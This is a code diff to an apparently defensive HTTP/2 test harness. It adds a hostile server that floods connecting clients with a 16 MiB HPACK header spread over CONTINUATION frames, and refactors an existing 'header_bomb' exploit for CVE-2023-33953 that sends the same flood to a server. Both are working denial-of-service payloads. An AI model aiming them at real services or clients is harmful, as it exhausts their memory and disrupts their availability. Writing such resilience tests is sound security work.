@@ -4,6 +4,7 @@ import select
 import socket
 import ssl
 import struct
+import threading
 import time
 
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -64,15 +65,53 @@ class Stranger:
         self.socket.close()
 
 
+def head_of_bomb(size):
+    """The frame that begins a string of HPACK of so many bytes."""
+    length, rest = bytes([0x7f]), size - 127  # an integer with a prefix of 7 bits
+    while rest >= 128:
+        length, rest = length + bytes([rest % 128 + 128]), rest // 128
+    return frame(HEADERS, 0, 1, b"\x00" + length + bytes([rest]))
+
+
+PIECE_OF_BOMB = frame(CONTINUATION, 0, 1, b"a" * 16384)
+
+
+class HostileCoordinator:
+    """Listens in a coordinator's place, and answers each connection with a header of so many bytes; `taken` has those of
+    each connection that were taken."""
+
+    def __init__(self, address, port, mebibytes=16):
+        self.taken = []
+        self.size = mebibytes << 20
+        self.listener = socket.create_server((address, port))
+        self.thread = threading.Thread(target=self.serve, daemon=True)
+        self.thread.start()
+
+    def serve(self):
+        with contextlib.suppress(OSError):  # closed
+            while True:
+                connection, _ = self.listener.accept()
+                connection.settimeout(CONNECT_S)
+                self.taken.append(0)
+                with contextlib.closing(connection), contextlib.suppress(OSError):
+                    connection.recv(1 << 16)
+                    connection.sendall(frame(SETTINGS, 0, 0) + head_of_bomb(self.size))
+                    while self.taken[-1] < self.size:
+                        connection.sendall(PIECE_OF_BOMB)
+                        self.taken[-1] += 16384
+
+    def close(self):
+        self.listener.shutdown(socket.SHUT_RDWR)
+        self.listener.close()
+        self.thread.join(2 * CONNECT_S)
+
+
 def header_bomb(address, port, mebibytes=16):
     """One string of HPACK over many CONTINUATION frames (CVE-2023-33953). Returns how many bytes were taken."""
     with contextlib.closing(Stranger(address, port)) as stranger:
         size = mebibytes << 20
-        length, rest = bytes([0x7f]), size - 127  # an integer with a prefix of 7 bits
-        while rest >= 128:
-            length, rest = length + bytes([rest % 128 + 128]), rest // 128
-        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, b"\x00" + length + bytes([rest])))
-        piece, taken = frame(CONTINUATION, 0, 1, b"a" * 16384), 0
+        stranger.send(PREFACE + frame(SETTINGS, 0, 0) + head_of_bomb(size))
+        piece, taken = PIECE_OF_BOMB, 0
         while taken < size and stranger.send(piece) and not stranger.is_closed():
             taken += 16384
         return taken
